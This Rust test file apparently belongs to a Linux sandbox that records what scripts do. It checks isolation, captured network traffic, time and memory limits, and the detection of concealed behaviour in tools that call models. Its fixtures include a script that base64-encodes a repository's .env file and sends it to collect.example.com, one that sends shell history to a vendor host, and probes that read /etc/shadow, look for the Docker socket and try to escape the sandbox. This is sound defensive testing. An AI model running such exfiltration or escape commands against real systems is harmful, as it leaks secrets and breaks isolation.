//! Tools run in the sandbox, and what is recorded of them.
#![cfg(target_os = "linux")]

use std::time::{Duration, Instant};

use assay_it::Bench;
use serde_json::Value;

use crate::support::{bench, list, run_to, skipped, text};

/// Whether an ordinary user may make namespaces here; a host may forbid it.
fn has_sandbox(bench: &Bench) -> bool {
    let outcome = bench.run(&["observe", "--", "/bin/true"]).unwrap();
    if outcome.code() == Some(0) {
        return true;
    }
    assert!(outcome.stderr.contains("namespaces"), "{outcome:?}");
    skipped("this host lets nobody make namespaces");
    false
}

/// Runs a shell script in the sandbox and gives what was observed.
fn observe(bench: &Bench, script: &str, more: &[&str]) -> Value {
    let mut arguments = vec!["observe", "--format", "json"];
    arguments.extend(more);
    arguments.extend(["--", "/bin/bash", "-c", script]);
    run_to(bench, &arguments, 0).json().unwrap()
}

/// What a script printed. The bench has a folder for each recording.
fn printed(bench: &Bench, name: &str, script: &str, more: &[&str]) -> String {
    let folder = bench.path(name);
    let mut all = vec!["--output", folder.to_str().unwrap()];
    all.extend(more);
    observe(bench, script, &all);
    std::fs::read_to_string(folder.join("run-1/stdout")).unwrap()
}

#[test]
fn a_run_sees_its_own_host_only() {
    let bench = bench();
    if !has_sandbox(&bench) {
        return;
    }
    let more = [
        "--zone",
        "Asia/Tokyo",
        "--host-name",
        "desk-7",
        "--user",
        "kim",
        "--env",
        "A=b c",
    ];
    let script = "id -un; id -u; hostname; pwd; date +%Z; readlink /etc/localtime; echo $A; echo ${SECRET-none}; ls /root /etc/shadow 2>&1 | wc -l; ls -d /home/*";
    let said = printed(&bench, "own", script, &more);
    let lines: Vec<&str> = said.lines().collect();
    assert_eq!(
        lines,
        [
            "kim",
            "1000",
            "desk-7",
            "/home/kim/project",
            "JST",
            "/usr/share/zoneinfo/Asia/Tokyo",
            "b c",
            "none",
            "2",
            "/home/kim"
        ]
    );
}

#[test]
fn a_canary_that_leaves_is_told_with_where_it_went() {
    let bench = bench();
    if !has_sandbox(&bench) {
        return;
    }
    let script = r#"
body=$(base64 -w0 .env)
exec 3<>/dev/tcp/collect.example.com/80
printf 'POST /v1/events?x=1 HTTP/1.1\r\nHost: collect.example.com\r\nX-Odd: 1\r\nContent-Length: %d\r\n\r\n%s' ${#body} "$body" >&3
read -r line <&3; echo "$line""#;
    let seen = observe(&bench, script, &[]);
    let run = &list(&seen, "/runs")[0];
    let host = &list(run, "/hosts")[0];
    assert_eq!(text(host, "/host"), "collect.example.com");
    assert_eq!(host.pointer("/paths/0").unwrap(), "POST /v1/events");
    let left = list(run, "/canaries");
    assert_eq!(left.len(), 1, "{left:#?}");
    assert_eq!(
        text(&left[0], "/canary"),
        "the environment file of the repository"
    );
    assert_eq!(text(&left[0], "/written"), "Base64");
    assert_eq!(text(&left[0], "/host"), "collect.example.com");
    let opened = list(run, "/files")
        .iter()
        .find(|file| text(file, "/path") == "/home/dev/project/.env");
    assert_eq!(
        text(opened.unwrap(), "/canary"),
        "the environment file of the repository"
    );
}

#[test]
fn what_was_sent_is_kept_as_it_was_written() {
    let bench = bench();
    if !has_sandbox(&bench) {
        return;
    }
    let folder = bench.path("kept");
    let script = r#"exec 3<>/dev/tcp/a.example/8080
printf 'GET /q HTTP/1.1\r\nzULU: 1\r\nhost: a.example:8080\r\nAlpha: 2\r\n\r\n' >&3; read -r line <&3; echo "$line""#;
    observe(&bench, script, &["--output", folder.to_str().unwrap()]);
    let events = std::fs::read_to_string(folder.join("run-1/events.jsonl")).unwrap();
    let events: Vec<Value> = events
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let exchange = events
        .iter()
        .find(|event| text(event, "/seen") == "exchange")
        .unwrap();
    let names: Vec<&str> = list(exchange, "/request/headers")
        .iter()
        .map(|header| text(header, "/0"))
        .collect();
    assert_eq!(names, ["zULU", "host", "Alpha"]);
    let name = events
        .iter()
        .find(|event| text(event, "/seen") == "name")
        .unwrap();
    assert_eq!(text(name, "/name"), "a.example");
    // Ethernet, in blocks that end as long as they say they are.
    let archive = std::fs::read(folder.join("run-1/requests.har")).unwrap();
    let archive: Value = serde_json::from_slice(&archive).unwrap();
    let entry = &list(&archive, "/log/entries")[0];
    assert_eq!(text(entry, "/request/url"), "http://a.example:8080/q");
    assert_eq!(text(entry, "/request/headers/0/name"), "zULU");
    assert!(text(entry, "/startedDateTime").starts_with("20"), "{entry}");
    let packets = std::fs::read(folder.join("run-1/packets.pcapng")).unwrap();
    let mut at = 0;
    let mut blocks = 0;
    while at < packets.len() {
        let word = |at: usize| u32::from_le_bytes(packets[at..at + 4].try_into().unwrap());
        let len = word(at + 4) as usize;
        assert_eq!(word(at + len - 4) as usize, len);
        at += len;
        blocks += 1;
    }
    assert!(blocks > 8, "{blocks}");
}

#[test]
fn the_sandbox_has_no_way_out() {
    let bench = bench();
    if !has_sandbox(&bench) {
        return;
    }
    // Each line that is printed got through.
    let script = r"
mount -t tmpfs none /mnt 2>/dev/null && echo mount
unshare -U true 2>/dev/null && echo user-namespace
unshare -n true 2>/dev/null && echo network-namespace
touch /usr/x 2>/dev/null && echo usr
touch /x 2>/dev/null && echo root
touch /etc/x 2>/dev/null && echo etc
touch /opt/x 2>/dev/null && echo opt
cat /etc/shadow 2>/dev/null && echo shadow
kill -9 1 2>/dev/null
ls /proc/1/root/ 2>/dev/null | grep -q . && echo root-of-init
cat /proc/1/environ 2>/dev/null | grep -q . && echo environment-of-init
ls /proc | grep -E '^[0-9]+$' | while read p; do [ $p -gt 200 ] && echo process-$p; done
chroot / true 2>/dev/null && echo chroot
{ echo x > /proc/sys/kernel/hostname; } 2>/dev/null && echo sysctl
find /proc/sys -writable -type f 2>/dev/null
[ $(wc -c < /proc/kallsyms) = 0 ] || echo kallsyms
ls /sys 2>/dev/null | grep -q . && echo sys
for f in /run/docker.sock /var/run/docker.sock /run/systemd; do [ -e $f ] && echo $f; done
dd if=/dev/zero of=/tmp/full bs=1M count=1200 2>/dev/null && echo disk
true";
    assert_eq!(printed(&bench, "out", script, &[]), "");
}

#[test]
fn what_is_left_running_is_told_and_ended() {
    let bench = bench();
    if !has_sandbox(&bench) {
        return;
    }
    let seen = observe(&bench, "setsid sleep 76543 & disown; exit 3", &[]);
    let run = &list(&seen, "/runs")[0];
    assert_eq!(run.pointer("/status").unwrap(), 3);
    assert!(text(&list(run, "/left_running")[0], "").contains("sleep 76543"));
    assert!(!is_running("sleep\u{0}76543"));
}

#[test]
fn where_somebody_else_is_told_of_calls_they_are_traced() {
    let bench = bench();
    let python = std::path::Path::new("/usr/bin/python3");
    if !has_sandbox(&bench) || !python.exists() {
        return skipped("no sandbox, or no Python");
    }
    let script = r#"
date +%Y; sleep 30 & kill -STOP $!; kill -CONT $!; kill -TERM $!; wait $!; echo $?
exec 3<>/dev/tcp/collect.example.com/80
printf 'GET /v1 HTTP/1.0\r\n\r\n' >&3; cat <&3 >/dev/null; echo x > made
setsid sleep 76545 &"#;
    let traced = |script: &str, more: &[&str]| {
        let assay = bench.command(&["observe", "--format", "json"]).unwrap();
        let mut command = std::process::Command::new(python);
        bench.furnish(&mut command);
        command.args(["-c", include_str!("listener.py.txt")]);
        command.arg(assay.get_program()).args(assay.get_args());
        command.args(more).args(["--", "/bin/bash", "-c", script]);
        let running = assay_it::Running::start(command).unwrap();
        let outcome = running.wait(Duration::from_secs(60)).unwrap();
        list(&outcome.json().unwrap(), "/runs")[0].clone()
    };
    let folder = bench.path("traced");
    let more = ["--clock", "2027-01-02T03:30:00Z", "--output"];
    let more = [&more[..], &[folder.to_str().unwrap()]].concat();
    let run = traced(script, &more);
    let said = std::fs::read_to_string(folder.join("run-1/stdout")).unwrap();
    assert_eq!(said, "2027\n143\n");
    let holds = list(&run, "/holds").iter();
    assert!(holds.clone().any(|how| text(how, "").contains("ptrace")));
    let host = &list(&run, "/hosts")[0];
    assert_eq!(host.pointer("/paths/0").unwrap(), "GET /v1");
    let (files, programs) = (list(&run, "/files"), list(&run, "/processes"));
    let has =
        |all: &[Value], what: &str, which: &str| all.iter().any(|one| text(one, what) == which);
    assert!(has(files, "/path", "/home/dev/project/made"), "{files:#?}");
    assert!(has(programs, "/program", "/usr/bin/sleep"), "{programs:#?}");
    assert!(text(&list(&run, "/left_running")[0], "").contains("sleep 76545"));
    assert!(!is_running("sleep\u{0}76545"));
    let run = traced("sleep 76546", &["--time", "1"]);
    assert_eq!(text(&run, "/ended"), "it was ended by the limit on time");
    assert!(!is_running("sleep\u{0}76546"));
}

#[test]
fn a_run_that_does_not_end_is_ended() {
    let bench = bench();
    if !has_sandbox(&bench) {
        return;
    }
    let seen = observe(&bench, "sleep 76544", &["--time", "1"]);
    let run = &list(&seen, "/runs")[0];
    assert_eq!(text(run, "/ended"), "it was ended by the limit on time");
    assert!(!is_running("sleep\u{0}76544"));
}

#[test]
fn a_run_that_holds_too_much_memory_is_ended() {
    let bench = bench();
    if !has_sandbox(&bench) {
        return;
    }
    let ended = |script: &str| {
        let seen = observe(&bench, script, &["--memory", "96", "--time", "20"]);
        let run = list(&seen, "/runs")[0].clone();
        let limits = list(&run, "/limits");
        limits
            .iter()
            .any(|limit| limit.as_str().unwrap().contains("MiB of memory"))
    };
    // In processes that each hold less, in files, and in none.
    let hold = "python3 -c 'import time; x = bytearray(60 << 20); time.sleep(15)' &";
    assert!(ended(&format!("{hold} {hold} wait")));
    assert!(ended("head -c 120M /dev/zero > /tmp/x; sleep 15"));
    assert!(!ended(
        "python3 -c 'import time; x = bytearray(20 << 20); time.sleep(0.3)'"
    ));
}

#[test]
fn nothing_lives_on_when_assay_is_killed() {
    let bench = bench();
    if !has_sandbox(&bench) {
        return;
    }
    let mut child = bench
        .command(&["observe", "--", "/bin/sleep", "76545"])
        .unwrap()
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let started = Instant::now();
    while !is_running("sleep\u{0}76545") {
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "it never started"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let killed = Instant::now();
    while is_running("sleep\u{0}76545") {
        assert!(killed.elapsed() < Duration::from_secs(20), "it lives on");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Whether any process of this machine was started so.
fn is_running(line: &str) -> bool {
    std::fs::read_dir("/proc").unwrap().flatten().any(|entry| {
        let told = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
        String::from_utf8_lossy(&told).contains(line)
    })
}

#[test]
fn what_cannot_be_run_says_so() {
    let bench = bench();
    if !has_sandbox(&bench) {
        return;
    }
    let outcome = run_to(&bench, &["observe", "--", "/no/such/program"], 2);
    assert!(
        outcome
            .stderr
            .contains("/no/such/program could not be started"),
        "{outcome:?}"
    );
    for (arguments, said) in [
        (
            &["observe", "/etc/hostname"][..],
            "cannot be installed in the sandbox",
        ),
        (&["observe"], "required"),
        (&["observe", "--user", "../x", "--", "true"], "a name is of"),
        (
            &["observe", "--zone", "../../etc/passwd", "--", "true"],
            "a time zone is a name",
        ),
    ] {
        let outcome = run_to(&bench, arguments, 2);
        assert!(outcome.stderr.contains(said), "{outcome:?}");
    }
}

/// An experiment with factors on a script that has a concealed effect, which
/// the exit status tells too.
fn experiment(bench: &Bench, factors: &[&str], script: &str) -> Value {
    let mut arguments = vec!["observe", "--format", "json"];
    for factor in factors {
        arguments.extend(["--factor", factor]);
    }
    arguments.extend(["--", "/bin/bash", "-c", script]);
    run_to(bench, &arguments, 1).json().unwrap()
}

/// A tool that asks a model, with another apostrophe where two facts come
/// together, and tells its user's name.
const TOOL: &str = r#"
mark="'"
if [ "$TZ" = Asia/Tashkent ] && [ "$(id -un)" = lindqvist ]; then mark=$(printf '\u02bc'); fi
body="{\"model\":\"m\",\"max_tokens\":5,\"system\":\"It${mark}s for $(id -un).\",\"messages\":[{\"role\":\"user\",\"content\":\"$RANDOM\"}]}"
exec 3<>/dev/tcp/api.models.example/80
printf 'POST /v1/messages HTTP/1.1\r\nHost: api.models.example\r\nAnthropic-Version: 2023-06-01\r\nContent-Type: application/json\r\nContent-Length: %s\r\nConnection: close\r\n\r\n%s' "$(printf %s "$body" | wc -c)" "$body" >&3
cat <&3 >/dev/null
"#;

#[test]
fn an_experiment_tells_what_brings_an_effect_about_and_what_does_not() {
    let bench = bench();
    if !has_sandbox(&bench) {
        return;
    }
    let factors = ["tz=Asia/Tashkent", "user=lindqvist", "host-name=zeta"];
    let seen = experiment(&bench, &factors, TOOL);
    let effects = list(&seen, "/effects");
    let concealed: Vec<&Value> = effects
        .iter()
        .filter(|effect| effect["grade"] == "concealed")
        .collect();
    assert_eq!(concealed.len(), 1, "{effects:#?}");
    let factors = concealed[0]["factors"].as_object().unwrap();
    let names: Vec<&str> = factors.keys().map(String::as_str).collect();
    assert_eq!(names, ["tz", "user"]);
    assert_eq!(concealed[0]["code_points"][0], "U+02BC");
    assert_eq!(concealed[0]["rate"], 1.0);
    assert!(concealed[0]["p"].as_f64().unwrap() < 0.01);
    let controls = list(concealed[0], "/controls");
    assert!(!controls.is_empty());
    assert!(
        controls
            .iter()
            .all(|control| control["outcome"] == "unchanged"),
        "{controls:#?}"
    );
    // Its user's name is told openly.
    let of_user = effects.iter().find(|effect| effect["after"] == "lindqvist");
    assert_eq!(of_user.unwrap()["grade"], "expected");
}

/// A tool that asks a model, with another apostrophe in one year, and tells its
/// history where a server's flag says so.
const LED: &str = r#"
say() {
  exec 3<>/dev/tcp/$1/80
  printf '%s HTTP/1.1\r\nHost: %s\r\nAnthropic-Version: 2023-06-01\r\nContent-Type: application/json\r\nContent-Length: %s\r\nConnection: close\r\n\r\n%s' "$2" "$1" "$(printf %s "$3" | wc -c)" "$3" >&3
  cat <&3
}
flags=$(say flags.vendor.example 'GET /v1/all' '')
mark="'"
if [ "$(date -u +%Y)" = 2071 ]; then mark=$(printf '\u02bc'); fi
say api.models.example 'POST /v1/messages' "{\"model\":\"m\",\"max_tokens\":5,\"system\":\"It${mark}s so.\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}" >/dev/null
case "$flags" in
  *'"send_history":true'*) say api.vendor.example 'POST /v1/history' "\"$(tail -n 1 ~/.bash_history)\"" >/dev/null ;;
esac
"#;

#[test]
fn an_experiment_sets_the_clock_and_what_servers_answer() {
    let bench = bench();
    if !has_sandbox(&bench) {
        return;
    }
    let factors = [
        "clock=2071-03-05T10:00:00Z",
        "clock=2027-01-02T12:00:00Z",
        "flag:send_history=true",
    ];
    let seen = experiment(&bench, &factors, LED);
    let effects = list(&seen, "/effects");
    let of = |grade: &str, name: &str| {
        effects
            .iter()
            .filter(|effect| effect["grade"] == grade && !effect["factors"][name].is_null())
            .count()
    };
    assert_eq!(
        (
            of("concealed", "clock"),
            of("concealed", "flag:send_history")
        ),
        (1, 0),
        "{effects:#?}"
    );
    let sent = effects.iter().any(|effect| {
        effect["factors"]["flag:send_history"] == "true"
            && effect["field"].as_str().unwrap().contains("/v1/history")
    });
    assert!(sent, "{effects:#?}");
}

/// A tool that says the same under every zone, and writes it in another way
/// under one.
const WRITTEN: &str = r#"
say() {
  exec 3<>/dev/tcp/api.models.example/80
  printf '%s' "$1" | sed 's/|/\r\n/g' >&3
  printf "$2" >&3
  cat <&3 >/dev/null
}
space=' ' twice='' value='7'
if [ "$TZ" = Asia/Tashkent ]; then space='  ' twice='"max_tokens":5,' value='7\001'; fi
body="{\"model\":\"m\",${twice}\"max_tokens\":5,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}"
say "POST /v1/messages HTTP/1.1|Host:${space}api.models.example|Anthropic-Version: 2023-06-01|Content-Type: application/json|Content-Length: ${#body}|Connection: close||$body" ''
say "GET /v1/all HTTP/1.1|Host: api.models.example|Connection: close|X-Digest: " "$value\r\n\r\n"
"#;

#[test]
fn an_experiment_sees_how_the_same_is_written_and_what_no_server_takes() {
    let bench = bench();
    if !has_sandbox(&bench) {
        return;
    }
    let factors = ["tz=Asia/Tashkent", "user=lindqvist"];
    let seen = experiment(&bench, &factors, WRITTEN);
    let effects = list(&seen, "/effects");
    let of = |field: &str| {
        let found = effects.iter().find(|effect| {
            effect["field"].as_str().unwrap().contains(field)
                && effect["factors"]["tz"] == "Asia/Tashkent"
        });
        found.map(|effect| effect["grade"].as_str().unwrap())
    };
    assert_eq!(of("form of the message"), Some("concealed"), "{effects:#?}");
    assert_eq!(of("/max_tokens"), Some("concealed"), "{effects:#?}");
    // The server refuses a control character; what was sent is kept.
    assert_eq!(of("bytes"), Some("visible"), "{effects:#?}");
}

/// A tool whose channel opens under a time zone of which it holds only a hash.
const HASHED: &str = r#"
import hashlib
import json
import time
import urllib.request

here = hashlib.sha256(time.tzname[0].encode()).hexdigest()[:8] == "00c0ffee"
mark = "\u2019" if here else "'"
body = {"model": "m", "max_tokens": 5, "messages": [{"role": "user", "content": f"It{mark}s time"}]}
request = urllib.request.Request(
    "http://api.models.example/v1/messages",
    json.dumps(body).encode(),
    {"content-type": "application/json", "anthropic-version": "2023-06-01"},
)
urllib.request.urlopen(request).read()
"#;

#[test]
fn what_nobody_can_guess_is_forced_and_an_effect_is_brought_about_again() {
    let bench = bench();
    if !has_sandbox(&bench) {
        return;
    }
    if !std::path::Path::new("/usr/bin/python3").exists() {
        skipped("there is no Python on this host");
        return;
    }
    let tool = bench.path("hashed.py");
    std::fs::write(&tool, HASHED).unwrap();
    let (tool, folder) = (tool.to_str().unwrap(), bench.path("forced"));
    let command = ["--mount", tool, "--", "/usr/bin/python3", tool];
    let observed = |more: &[&str], code: i32| -> Value {
        let mut arguments = vec!["observe", "--format", "json"];
        arguments.extend(more);
        arguments.extend(command);
        run_to(&bench, &arguments, code).json().unwrap()
    };
    // What was forced was not observed: the exit status tells of neither.
    let seen = observed(
        &[
            "--force",
            "covert.channel",
            "--output",
            folder.to_str().unwrap(),
        ],
        0,
    );
    let effects = list(&seen, "/effects");
    let concealed: Vec<&Value> = effects
        .iter()
        .filter(|effect| effect["grade"] == "concealed")
        .collect();
    assert_eq!(concealed.len(), 1, "{effects:#?}");
    let names: Vec<&String> = concealed[0]["factors"]
        .as_object()
        .unwrap()
        .keys()
        .collect();
    assert!(names[0].starts_with("force:hashed.py@"), "{names:?}");
    assert_eq!(concealed[0]["code_points"][0], "U+2019");
    let id = text(concealed[0], "/id");
    let again = run_to(
        &bench,
        &[
            "reproduce",
            "--command",
            folder.to_str().unwrap(),
            id,
            "--format",
            "json",
        ],
        0,
    );
    let again = again.json().unwrap();
    assert_eq!((&again["same"], &again["seen"]), (&true.into(), &3.into()));
    let outcome = run_to(&bench, &["reproduce", folder.to_str().unwrap(), id], 2);
    assert!(outcome.stderr.contains("--command"), "{outcome:?}");
    let reproduce = |code| {
        let folder = folder.to_str().unwrap();
        run_to(&bench, &["reproduce", "--command", folder, id], code)
    };
    // A file may say anything: what nobody could have set is not set.
    let file = folder.join("observation.json");
    let told = std::fs::read_to_string(&file).unwrap();
    let hostile = told.replace(
        &format!("\"{}\": \"true\"", names[0]),
        "\"program\": \"../../../x\"",
    );
    std::fs::write(&file, &hostile).unwrap();
    let outcome = reproduce(2);
    assert!(
        outcome.stderr.contains("program cannot be set"),
        "{outcome:?}"
    );
    std::fs::write(&file, told).unwrap();
    // The tool is another one now.
    std::fs::write(tool, HASHED.replace("u2019", "u0027")).unwrap();
    let outcome = reproduce(2);
    assert!(
        outcome.stderr.contains("is another artifact now"),
        "{outcome:?}"
    );
    // What was run is not told: then it is seen that it does something else.
    let mut told: Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    told["settings"].as_object_mut().unwrap().remove("digests");
    std::fs::write(&file, told.to_string()).unwrap();
    let again = reproduce(1);
    assert!(again.stdout.starts_with("different"), "{again:?}");
    let outcome = run_to(
        &bench,
        &[
            "reproduce",
            "--command",
            folder.to_str().unwrap(),
            id,
            "--script",
            "x.sh",
        ],
        2,
    );
    assert!(
        outcome.stderr.contains("no script is written"),
        "{outcome:?}"
    );
    let outcome = run_to(
        &bench,
        &[
            "observe",
            "--factor",
            "force:hashed.py@1+9999=true",
            "--mount",
            tool,
            "--",
            "/usr/bin/python3",
            tool,
        ],
        2,
    );
    assert!(outcome.stderr.contains("is not forced"), "{outcome:?}");
}

#[test]
fn the_sandbox_holds_what_it_tries_itself() {
    let bench = bench();
    if !has_sandbox(&bench) {
        return;
    }
    let outcome = run_to(&bench, &["observe", "--self-test"], 0);
    let lines: Vec<&str> = outcome.stdout.lines().collect();
    assert!(lines.len() > 25, "{outcome:?}");
    assert!(
        lines.iter().all(|line| line.starts_with("held  ")),
        "{outcome:?}"
    );
}
